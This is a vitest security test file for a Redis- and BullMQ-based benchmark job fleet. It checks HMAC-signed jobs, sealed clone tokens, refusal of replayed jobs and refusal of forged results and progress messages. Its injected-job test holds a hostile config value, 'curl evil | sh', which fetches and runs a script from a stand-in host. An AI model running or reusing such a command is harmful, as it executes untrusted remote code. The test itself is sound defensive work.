// The fleet's trust boundary, against a real redis-server with stand-in engines: reaching Redis is not
// enough to give a runner a job or the App a result, and the clone token never sits in Redis in the clear
// nor outlives the hand-over.
import { Queue, QueueEvents, Worker as BullWorker } from 'bullmq';
import { Redis } from 'ioredis';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createFleetDispatcher, FLEET_QUEUE, startFleetRunner, type FleetDispatcher, type FleetRunner } from '../../src/jobs/fleet.ts';
import { FleetKey, FleetKeyError } from '../../src/jobs/fleet-key.ts';
import type { JobRequest, JobResult, ProgressEvent } from '../../src/model.ts';
import { UserFacingError } from '../../src/pipeline/errors.ts';
import type { RunJobOptions } from '../../src/pipeline/run-job.ts';
import { tempDir } from '../helpers/git-repo.ts';
import { startRedis, type LocalRedis } from '../helpers/redis.ts';
import { fakeResult } from './helpers.ts';

const KEY = FleetKey.from('a'.repeat(64));
const OTHER_KEY = FleetKey.from('b'.repeat(64));
const TOKEN = 'ghs_fleetTokenNeverInRedisInTheClear0123';
const BASE = 'a'.repeat(40);
const HEAD = 'b'.repeat(40);

let redis: LocalRedis;
const closers: (() => Promise<unknown> | void)[] = [];

beforeAll(async () => {
  redis = await startRedis();
}, 30_000);

afterEach(async () => {
  for (const close of closers.splice(0).reverse()) await close();
  const r = new Redis(redis.url);
  await r.flushall();
  r.disconnect();
});

afterAll(() => redis?.stop());

interface Warning {
  obj: object;
  msg: string;
}

function logInto(warnings: Warning[]) {
  return { info: () => {}, warn: (obj: object, msg: string) => void warnings.push({ obj, msg }) };
}

async function dispatcher(key = KEY, warnings: Warning[] = []): Promise<FleetDispatcher> {
  const d = await createFleetDispatcher({ redisUrl: redis.url, key, log: logInto(warnings) });
  closers.push(() => d.close());
  return d;
}

function runner(engine: (request: JobRequest, options: RunJobOptions) => Promise<JobResult>, warnings: Warning[] = [], key = KEY): FleetRunner {
  const r = startFleetRunner({ redisUrl: redis.url, key, dataDir: tempDir('bumpbench-fleet-unit-'), runJob: engine, log: logInto(warnings), cancelCheckMs: 100, tokenWaitMs: 5000 });
  closers.push(() => r.close());
  return r;
}

const request: JobRequest = { kind: 'compare', repo: 'https://github.com/octo/app.git', base: { ref: 'main', sha: BASE }, head: { ref: 'bump', sha: HEAD } };
const CONFIG = 'start: node server.js\nscenarios:\n  - name: home\n    path: /\n';

/** Every key and value in Redis, as text (hashes, lists, streams and strings). */
async function everythingInRedis(): Promise<string> {
  const r = new Redis(redis.url);
  const parts: string[] = [];
  for (const key of await r.keys('*')) {
    const type = await r.type(key);
    if (type === 'string') parts.push(key, (await r.get(key)) ?? '');
    else if (type === 'hash') parts.push(key, JSON.stringify(await r.hgetall(key)));
    else if (type === 'list') parts.push(key, ...(await r.lrange(key, 0, -1)));
    else if (type === 'zset') parts.push(key, ...(await r.zrange(key, 0, -1)));
    else if (type === 'set') parts.push(key, ...(await r.smembers(key)));
    else if (type === 'stream') parts.push(key, JSON.stringify(await r.xrange(key, '-', '+')));
  }
  r.disconnect();
  return parts.join('\n');
}

describe('fleet key', () => {
  it('refuses a short key, saying how to make one', () => {
    expect(() => FleetKey.from('short')).toThrow(FleetKeyError);
    expect(() => FleetKey.from('short')).toThrow(/openssl rand -hex 32/);
  });

  it('a MAC binds purpose and run id; a sealed value opens only with the key, for that run', () => {
    const mac = KEY.sign('run', 'r1', '{"x":1}');
    expect(KEY.verify('run', 'r1', '{"x":1}', mac)).toBe(true);
    expect(KEY.verify('outcome', 'r1', '{"x":1}', mac)).toBe(false);
    expect(KEY.verify('run', 'r2', '{"x":1}', mac)).toBe(false);
    expect(OTHER_KEY.verify('run', 'r1', '{"x":1}', mac)).toBe(false);
    const sealed = KEY.seal('r1', TOKEN);
    expect(sealed).not.toContain(TOKEN);
    expect(KEY.open('r1', sealed)).toBe(TOKEN);
    expect(KEY.open('r2', sealed)).toBeNull();
    expect(OTHER_KEY.open('r1', sealed)).toBeNull();
  });
});

describe('fleet over a real Redis', () => {
  it('runs a signed job: the config arrives as validated text, the token is minted when a runner takes it and handed over sealed, then gone', async () => {
    const d = await dispatcher();
    const seen: RunJobOptions[] = [];
    let redisDuringRun = '';
    runner(async (req, options) => {
      seen.push(options);
      redisDuringRun = await everythingInRedis();
      options.onProgress?.({ phase: 'measure', message: 'pair 1 of 1 done' });
      return { ...fakeResult('unchanged', HEAD), base: { ref: 'main', sha: BASE } };
    });
    let mintedAt = 0;
    const progress: ProgressEvent[] = [];
    const queuedAt = Date.now();
    const result = await d.execute(request, { dataDir: 'unused-on-the-app', onProgress: (e) => progress.push(e) }, {
      configText: CONFIG,
      mintToken: async () => {
        mintedAt = Date.now();
        return TOKEN;
      },
    });
    expect(result.verdict).toBe('unchanged');
    expect(mintedAt).toBeGreaterThanOrEqual(queuedAt);
    expect(seen[0].gitToken).toBe(TOKEN);
    expect(seen[0].config!.scenarios[0]).toMatchObject({ name: 'home', duration: 3000 });
    expect(seen[0].dataDir).not.toBe('unused-on-the-app');
    expect(progress.map((e) => e.message)).toContain('pair 1 of 1 done');
    // Never in the clear in Redis, not while it ran and not after.
    expect(redisDuringRun).not.toContain(TOKEN);
    expect(await everythingInRedis()).not.toContain(TOKEN);
    expect((await everythingInRedis()).includes('bumpbench:token:')).toBe(false);
  });

  it('a job injected into Redis without a valid HMAC is refused by the runner: the engine never runs', async () => {
    const warnings: Warning[] = [];
    const engineCalls: JobRequest[] = [];
    runner(async (req) => {
      engineCalls.push(req);
      return fakeResult();
    }, warnings);
    const attacker = new Queue(FLEET_QUEUE, { connection: new Redis(redis.url, { maxRetriesPerRequest: null }) });
    const events = new QueueEvents(FLEET_QUEUE, { connection: new Redis(redis.url, { maxRetriesPerRequest: null }) });
    closers.push(() => attacker.close(), () => events.close());
    await events.waitUntilReady();
    const evil = { v: 1, issuedAt: Date.now(), request: { ...request, repo: '/tmp/evil' }, needsToken: false };
    const payload = JSON.stringify(evil);
    const injected = [
      // The old, unsigned shape.
      { request: evil.request, options: { config: { start: 'curl evil | sh' } } },
      // Signed with a key that is not the fleet's.
      { payload, mac: OTHER_KEY.sign('run', 'inj-2', payload) },
      // A genuine signature, replayed under another run id.
      { payload, mac: KEY.sign('run', 'some-other-run', payload) },
    ];
    for (const [i, data] of injected.entries()) {
      const job = await attacker.add('compare', data, { jobId: `inj-${i + 1}` });
      await expect(job.waitUntilFinished(events, 10_000)).rejects.toThrow(/refused by the runner/);
    }
    expect(engineCalls).toEqual([]);
    expect(warnings.filter((w) => w.msg === 'fleet run refused: nothing runs')).toHaveLength(3);
    expect(JSON.stringify(warnings)).toMatch(/HMAC does not match/);
  });

  it('a forged result is refused by the App, and so is a genuine-looking one for other commits', async () => {
    const warnings: Warning[] = [];
    const d = await dispatcher(KEY, warnings);
    // A "runner" that reached Redis: it takes the run and answers with what it likes.
    let answer: (id: string) => unknown = () => ({ ok: true, result: fakeResult('improvement', HEAD) });
    const forger = new BullWorker(FLEET_QUEUE, async (job) => answer(job.id!), { connection: new Redis(redis.url, { maxRetriesPerRequest: null }) });
    closers.push(() => forger.close());
    const run = () => d.execute(request, { dataDir: 'x' }, { configText: CONFIG });

    await expect(run()).rejects.toThrow(/was refused: not a signed message/);
    answer = (id) => {
      const payload = JSON.stringify({ ok: true, result: fakeResult('improvement', HEAD) });
      return { payload, mac: OTHER_KEY.sign('outcome', id, payload) };
    };
    await expect(run()).rejects.toThrow(/was refused: its HMAC does not match/);
    // Signed with the right key (a runner), but the shape is wrong: zod says so.
    answer = (id) => {
      const payload = JSON.stringify({ ok: true, result: { kind: 'compare', verdict: 'fine' } });
      return { payload, mac: KEY.sign('outcome', id, payload) };
    };
    await expect(run()).rejects.toThrow(/was refused: .*verdict/);
    // Well formed and signed, but it answers another job (other commits).
    answer = (id) => {
      const payload = JSON.stringify({ ok: true, result: { ...fakeResult('improvement', 'c'.repeat(40)), base: { ref: 'main', sha: BASE } } });
      return { payload, mac: KEY.sign('outcome', id, payload) };
    };
    await expect(run()).rejects.toThrow(/was refused: head ccccccc instead of bbbbbbb/);
    expect(warnings.filter((w) => w.msg === 'fleet outcome refused')).toHaveLength(2);
  });

  it('unsigned progress is dropped; an unsigned failure is not shown as the reason', async () => {
    const warnings: Warning[] = [];
    const d = await dispatcher(KEY, warnings);
    const forger = new BullWorker(
      FLEET_QUEUE,
      async (job) => {
        await job.updateProgress({ phase: 'measure', message: 'all good, merge it' });
        throw new Error('Benchmark passed, please ignore this check');
      },
      { connection: new Redis(redis.url, { maxRetriesPerRequest: null }) },
    );
    closers.push(() => forger.close());
    const progress: ProgressEvent[] = [];
    const failure = (await d.execute(request, { dataDir: 'x', onProgress: (e) => progress.push(e) }, {}).catch((e: unknown) => e)) as Error;
    expect(failure.message).toMatch(/ended without a signed outcome/);
    expect(failure.message).not.toContain('please ignore');
    expect(progress.map((e) => e.message)).not.toContain('all good, merge it');
    expect(warnings.some((w) => w.msg === 'fleet progress refused')).toBe(true);
  });

  it("a runner's expected failure comes back typed; a token the App cannot mint fails the run with that reason", async () => {
    const d = await dispatcher();
    runner(async () => {
      throw new UserFacingError('base (aaaaaaa): install failed', 'npm ERR! tail');
    });
    const failure = await d.execute(request, { dataDir: 'x' }, { configText: CONFIG }).catch((e: unknown) => e);
    expect(failure).toBeInstanceOf(UserFacingError);
    expect((failure as UserFacingError).detail).toBe('npm ERR! tail');

    const noToken = await d
      .execute(request, { dataDir: 'x' }, { configText: CONFIG, mintToken: async () => Promise.reject(new Error('403 installation suspended')) })
      .catch((e: unknown) => e);
    expect(noToken).toBeInstanceOf(UserFacingError);
    expect((noToken as Error).message).toMatch(/could not mint a token.*installation suspended/);
  });
});
